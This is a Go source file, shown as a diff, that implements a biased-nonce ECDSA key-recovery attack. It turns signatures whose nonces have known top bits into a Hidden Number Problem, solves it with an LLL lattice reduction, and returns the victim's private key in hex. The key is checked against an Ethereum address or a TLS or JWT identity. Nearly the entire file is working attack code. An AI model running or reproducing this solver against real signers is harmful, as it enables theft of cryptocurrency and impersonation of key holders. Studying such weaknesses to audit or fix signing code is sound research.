@@ -0,0 +1,406 @@
+package recovery
+
+import (
+	"errors"
+	"fmt"
+	"math/big"
+)
+
+// HNPSignature is one signature's contribution to a Hidden Number Problem
+// instance: the usual (R, S, H) ECDSA triple, plus whatever is known about
+// the nonce used to produce it from a side channel (timing, a biased RNG,
+// etc). KnownMSB holds those known bits, left-aligned as the top KnownBits
+// bits of an otherwise-zero KnownBits-bit+ value; KnownBits is how many of
+// the nonce's most-significant bits KnownMSB actually pins down.
+type HNPSignature struct {
+	R         *big.Int
+	S         *big.Int
+	H         *big.Int
+	KnownMSB  *big.Int
+	KnownBits int
+}
+
+// HNPInstance is a Hidden Number Problem instance: a set of signatures from
+// the same key, each leaking some of its nonce's most significant bits,
+// sufficient (given enough signatures) to recover the private key without
+// ever observing a full nonce collision the way LinearSystem requires.
+type HNPInstance struct {
+	N          *big.Int
+	Curve      Curve
+	Signatures []HNPSignature
+}
+
+// curve resolves which elliptic.Curve to verify candidates against. The
+// zero Curve (every caller before RecoverFromBiasedNoncesForCurve existed)
+// means secp256k1, keeping every HNPInstance{N: secp256k1N, ...} literal
+// built before the Curve field was added working unchanged.
+func (inst HNPInstance) curve() Curve {
+	if inst.Curve.EC == nil {
+		return Secp256k1
+	}
+	return inst.Curve
+}
+
+// hnpDelta is the LLL reduction parameter. 0.75 is the standard choice
+// balancing reduction quality against running time.
+var hnpDelta = big.NewRat(3, 4)
+
+// SolveHNP recovers the private key d from a biased-nonce HNP instance by
+// building the standard lattice for this problem and LLL-reducing it.
+//
+// For each signature i, with known nonce bits contributing a_i = KnownMSB_i
+// (already shifted so k_i = a_i + b_i for some unknown b_i < 2^l, l =
+// bitlen(n) - KnownBits_i):
+//
+//	t_i = r_i * s_i^-1 mod n
+//	u_i = h_i * s_i^-1 - a_i mod n
+//
+// gives b_i = t_i*d + u_i - x_i*n for some integer x_i, i.e. the vector
+// (n*b_1, ..., n*b_m, d*B, n*B) - B = 2^l for the worst (least-leaky)
+// signature - lies in the lattice spanned by the rows of:
+//
+//	[ n^2 * I_m              0    0 ]
+//	[ n*t_1 ... n*t_m        B    0 ]
+//	[ n*u_1 ... n*u_m        0  n*B ]
+//
+// (the standard construction scaled through by n so every entry stays an
+// integer rather than carrying a literal B/n fraction). Finding that vector
+// via LLL recovers d exactly as (second-to-last coordinate) / B, since only
+// the t-row contributes to that coordinate and every row contributes an
+// exact multiple of n to the first m coordinates.
+func SolveHNP(inst HNPInstance) (*big.Int, error) {
+	m := len(inst.Signatures)
+	if m < 3 {
+		return nil, errors.New("hnp: need at least 3 signatures")
+	}
+	if inst.N == nil || inst.N.Sign() <= 0 {
+		return nil, errors.New("hnp: invalid modulus")
+	}
+
+	minKnownBits := 0
+	for _, sig := range inst.Signatures {
+		if sig.R == nil || sig.S == nil || sig.H == nil || sig.KnownMSB == nil {
+			return nil, errors.New("hnp: signature missing components")
+		}
+		if sig.KnownBits <= 0 {
+			return nil, errors.New("hnp: signature has no known bits")
+		}
+		if minKnownBits == 0 || sig.KnownBits < minKnownBits {
+			minKnownBits = sig.KnownBits
+		}
+	}
+
+	n := inst.N
+	bitLen := n.BitLen()
+	unknownBits := bitLen - minKnownBits
+	if unknownBits <= 0 {
+		return nil, errors.New("hnp: known bits cover the full modulus")
+	}
+	scale := new(big.Int).Lsh(big.NewInt(1), uint(unknownBits)) // B = 2^unknownBits
+
+	t := make([]*big.Int, m)
+	u := make([]*big.Int, m)
+	for i, sig := range inst.Signatures {
+		sInv := new(big.Int).ModInverse(sig.S, n)
+		if sInv == nil {
+			return nil, errors.New("hnp: s value not invertible mod n")
+		}
+		t[i] = new(big.Int).Mul(sig.R, sInv)
+		t[i].Mod(t[i], n)
+
+		// k_i = a_i + b_i, and s_i*k_i = h_i + r_i*d (mod n), so
+		// b_i = t_i*d + (h_i*s_i^-1 - a_i) (mod n).
+		u[i] = new(big.Int).Mul(sig.H, sInv)
+		u[i].Sub(u[i], sig.KnownMSB)
+		u[i].Mod(u[i], n)
+	}
+
+	dim := m + 2
+	basis := make([][]*big.Int, dim)
+	for i := range basis {
+		basis[i] = make([]*big.Int, dim)
+		for j := range basis[i] {
+			basis[i][j] = big.NewInt(0)
+		}
+	}
+	nSquared := new(big.Int).Mul(n, n)
+	for i := 0; i < m; i++ {
+		basis[i][i] = new(big.Int).Set(nSquared)
+	}
+	for j := 0; j < m; j++ {
+		basis[m][j] = new(big.Int).Mul(n, t[j])
+		basis[m+1][j] = new(big.Int).Mul(n, u[j])
+	}
+	basis[m][m] = new(big.Int).Set(scale)
+	basis[m+1][m+1] = new(big.Int).Mul(n, scale)
+
+	reduced := lllReduce(basis, hnpDelta)
+	curve := inst.curve()
+
+	for _, row := range reduced {
+		for _, d := range extractCandidates(row, n, scale, m) {
+			if verifyCandidateKey(curve, d, inst) {
+				return d, nil
+			}
+		}
+	}
+
+	return nil, errors.New("hnp: no short vector recovered the private key")
+}
+
+// RecoverFromBiasedNoncesForCurve is RecoverFromBiasedNonces generalized to
+// an arbitrary curve/identity pair, so non-EVM datasets (TLS, JWT) leaking
+// the same classic RNG bias can reuse the solver. expectedID is whatever
+// identity already derives for the signer - an address, an SPKI
+// fingerprint, etc.
+func RecoverFromBiasedNoncesForCurve(curve Curve, identity Identity, sigs []TxSignature, expectedID string, msbBits int) (*RecoveredKey, error) {
+	if msbBits <= 0 {
+		return nil, errors.New("hnp: msbBits must be positive")
+	}
+
+	hnpSigs := make([]HNPSignature, 0, len(sigs))
+	for _, sig := range sigs {
+		if sig.R == nil || sig.S == nil || len(sig.SigningHash) == 0 {
+			continue
+		}
+		hnpSigs = append(hnpSigs, HNPSignature{
+			R:         sig.R,
+			S:         sig.S,
+			H:         curve.TruncateHash(sig.SigningHash),
+			KnownMSB:  big.NewInt(0),
+			KnownBits: msbBits,
+		})
+	}
+
+	d, err := SolveHNP(HNPInstance{N: curve.N(), Curve: curve, Signatures: hnpSigs})
+	if err != nil {
+		return nil, err
+	}
+
+	privKeyHex, err := hexPrivateKey(curve, d)
+	if err != nil {
+		return nil, fmt.Errorf("hnp: failed to create private key: %w", err)
+	}
+
+	privKey, err := privateKeyFromHex(curve, privKeyHex)
+	if err != nil {
+		return nil, fmt.Errorf("hnp: failed to create private key: %w", err)
+	}
+	if !identity.Matches(&privKey.PublicKey, expectedID) {
+		return nil, errors.New("hnp: recovered key does not match address")
+	}
+
+	result := &RecoveredKey{
+		Address:    expectedID,
+		PrivateKey: privKeyHex,
+	}
+	if len(sigs) > 0 {
+		result.TxHash1 = sigs[0].TxHash
+	}
+	if len(sigs) > 1 {
+		result.TxHash2 = sigs[1].TxHash
+	}
+	return result, nil
+}
+
+// RecoverFromBiasedNonces attempts to recover address's private key from a
+// set of signatures whose nonces are known to share the classic RNG bias:
+// the top msbBits bits of every nonce are zero (e.g. a buggy nonce generator
+// that only ever fills the low bits). It builds an HNPInstance out of sigs,
+// runs SolveHNP, and verifies the candidate key against address before
+// returning it - callers must not persist the result otherwise.
+func RecoverFromBiasedNonces(sigs []TxSignature, address string, msbBits int) (*RecoveredKey, error) {
+	return RecoverFromBiasedNoncesForCurve(Secp256k1, EthereumIdentity{}, sigs, address, msbBits)
+}
+
+// extractCandidates reads d (and its negation, since LLL can return either
+// a short vector or its mirror image) out of a reduced basis row: only the
+// t-row contributes to coordinate m, so that coordinate is exactly d*B,
+// and d falls out by exact division.
+func extractCandidates(row []*big.Int, n, scale *big.Int, m int) []*big.Int {
+	coeff := row[m]
+	if coeff.Sign() == 0 {
+		return nil
+	}
+	q, r := new(big.Int).QuoRem(coeff, scale, new(big.Int))
+	if r.Sign() != 0 {
+		return nil
+	}
+	q.Mod(q, n)
+	neg := new(big.Int).Sub(n, q)
+	return []*big.Int{q, neg}
+}
+
+// verifyCandidateKey checks a candidate d against every signature in the
+// instance: d must reproduce each signature's R value via k*G where k is
+// recovered from d, r, s, h.
+func verifyCandidateKey(curve Curve, d *big.Int, inst HNPInstance) bool {
+	if d.Sign() == 0 {
+		return false
+	}
+	n := inst.N
+	ec := curve.EC
+
+	// Only d itself is checked: extractCandidates already offers n-d as a
+	// separate candidate, and SolveHNP returns whichever d passes here.
+	for _, sig := range inst.Signatures {
+		// k = s^-1 * (h + r*d) mod n
+		k := new(big.Int).Mul(sig.R, d)
+		k.Add(k, sig.H)
+		sInv := new(big.Int).ModInverse(sig.S, n)
+		if sInv == nil {
+			return false
+		}
+		k.Mul(k, sInv)
+		k.Mod(k, n)
+
+		rx, _ := ec.ScalarBaseMult(k.Bytes())
+		r := new(big.Int).Mod(rx, n)
+		if r.Cmp(sig.R) != 0 {
+			return false
+		}
+	}
+	return true
+}
+
+// lllReduce runs Lenstra-Lenstra-Lovasz lattice basis reduction with
+// reduction parameter delta (conventionally 3/4). It keeps the
+// Gram-Schmidt norms (gs) and projection coefficients (mu) updated
+// incrementally rather than recomputing them from the basis vectors after
+// every step (Cohen, "A Course in Computational Algebraic Number Theory",
+// algorithm 2.6.3/2.6.7) - for the dimensions this package deals with
+// (dozens of signatures), recomputing from scratch each step is the
+// dominant cost and makes the naive approach impractically slow. basis is
+// not modified; the reduced basis is returned as a new set of rows.
+func lllReduce(basis [][]*big.Int, delta *big.Rat) [][]*big.Int {
+	dim := len(basis)
+	b := make([][]*big.Int, dim)
+	for i := range basis {
+		b[i] = make([]*big.Int, len(basis[i]))
+		for j := range basis[i] {
+			b[i][j] = new(big.Int).Set(basis[i][j])
+		}
+	}
+
+	gs, mu := gramSchmidt(b)
+
+	k := 1
+	for k < dim {
+		for j := k - 1; j >= 0; j-- {
+			q := roundRat(mu[k][j])
+			if q.Sign() != 0 {
+				for c := range b[k] {
+					b[k][c].Sub(b[k][c], new(big.Int).Mul(q, b[j][c]))
+				}
+				for i := 0; i < j; i++ {
+					mu[k][i].Sub(mu[k][i], new(big.Rat).Mul(new(big.Rat).SetInt(q), mu[j][i]))
+				}
+				mu[k][j].Sub(mu[k][j], new(big.Rat).SetInt(q))
+			}
+		}
+
+		lhs := gs[k]
+		rhs := new(big.Rat).Sub(delta, new(big.Rat).Mul(mu[k][k-1], mu[k][k-1]))
+		rhs.Mul(rhs, gs[k-1])
+
+		if lhs.Cmp(rhs) >= 0 {
+			k++
+		} else {
+			swapLLL(b, gs, mu, k)
+			if k > 1 {
+				k--
+			}
+		}
+	}
+
+	return b
+}
+
+// gramSchmidt computes the squared norms of the Gram-Schmidt orthogonalized
+// basis vectors (gs) and the projection coefficients mu[i][j] = <b_i, b*_j>
+// / <b*_j, b*_j> for j < i, both as exact rationals. Only used once, to
+// seed lllReduce's incremental state; after that, size-reduce and
+// swapLLL update gs/mu directly instead of calling this again.
+func gramSchmidt(b [][]*big.Int) ([]*big.Rat, [][]*big.Rat) {
+	dim := len(b)
+	bStar := make([][]*big.Rat, dim)
+	gs := make([]*big.Rat, dim)
+	mu := make([][]*big.Rat, dim)
+
+	for i := 0; i < dim; i++ {
+		bStar[i] = toRatVector(b[i])
+		mu[i] = make([]*big.Rat, dim)
+		for j := 0; j < i; j++ {
+			mu[i][j] = new(big.Rat).Quo(dotRat(toRatVector(b[i]), bStar[j]), gs[j])
+			bStar[i] = subScaled(bStar[i], bStar[j], mu[i][j])
+		}
+		gs[i] = dotRat(bStar[i], bStar[i])
+	}
+
+	return gs, mu
+}
+
+// swapLLL swaps b[k-1] and b[k] and updates gs/mu in place per the standard
+// incremental formulas, instead of recomputing the full Gram-Schmidt data.
+func swapLLL(b [][]*big.Int, gs []*big.Rat, mu [][]*big.Rat, k int) {
+	dim := len(b)
+	nu := mu[k][k-1]
+
+	newBk1 := new(big.Rat).Add(gs[k], new(big.Rat).Mul(new(big.Rat).Mul(nu, nu), gs[k-1]))
+
+	b[k], b[k-1] = b[k-1], b[k]
+
+	for i := 0; i < k-1; i++ {
+		mu[k-1][i], mu[k][i] = mu[k][i], mu[k-1][i]
+	}
+
+	newMuK_k1 := new(big.Rat).Quo(new(big.Rat).Mul(nu, gs[k-1]), newBk1)
+	gs[k] = new(big.Rat).Quo(new(big.Rat).Mul(gs[k-1], gs[k]), newBk1)
+	gs[k-1] = newBk1
+
+	for i := k + 1; i < dim; i++ {
+		t := new(big.Rat).Set(mu[i][k])
+		mu[i][k] = new(big.Rat).Sub(mu[i][k-1], new(big.Rat).Mul(nu, t))
+		mu[i][k-1] = new(big.Rat).Add(t, new(big.Rat).Mul(newMuK_k1, mu[i][k]))
+	}
+	mu[k][k-1] = newMuK_k1
+}
+
+func toRatVector(v []*big.Int) []*big.Rat {
+	out := make([]*big.Rat, len(v))
+	for i, x := range v {
+		out[i] = new(big.Rat).SetInt(x)
+	}
+	return out
+}
+
+func dotRat(a, b []*big.Rat) *big.Rat {
+	sum := new(big.Rat)
+	for i := range a {
+		sum.Add(sum, new(big.Rat).Mul(a[i], b[i]))
+	}
+	return sum
+}
+
+func subScaled(a, b []*big.Rat, scale *big.Rat) []*big.Rat {
+	out := make([]*big.Rat, len(a))
+	for i := range a {
+		out[i] = new(big.Rat).Sub(a[i], new(big.Rat).Mul(scale, b[i]))
+	}
+	return out
+}
+
+// roundRat rounds a rational to the nearest integer, ties away from zero.
+func roundRat(r *big.Rat) *big.Int {
+	num := r.Num()
+	den := r.Denom()
+
+	doubledNum := new(big.Int).Lsh(num, 1)
+	doubledDen := new(big.Int).Lsh(den, 1)
+	if num.Sign() >= 0 {
+		doubledNum.Add(doubledNum, den)
+	} else {
+		doubledNum.Sub(doubledNum, den)
+	}
+	return new(big.Int).Quo(doubledNum, doubledDen)
+}